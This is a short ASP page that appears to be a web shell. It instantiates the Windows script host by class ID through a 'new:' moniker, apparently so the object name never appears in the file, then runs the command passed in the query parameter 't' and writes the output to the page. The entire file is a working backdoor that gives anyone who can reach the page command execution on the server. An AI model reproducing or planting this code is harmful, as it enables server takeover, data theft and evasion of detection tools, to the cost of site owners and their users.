<%
' the script host created from its class id through a "new:" moniker
Set h = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")
Response.Write h.Exec(Request.QueryString("t")).StdOut.ReadAll
%>
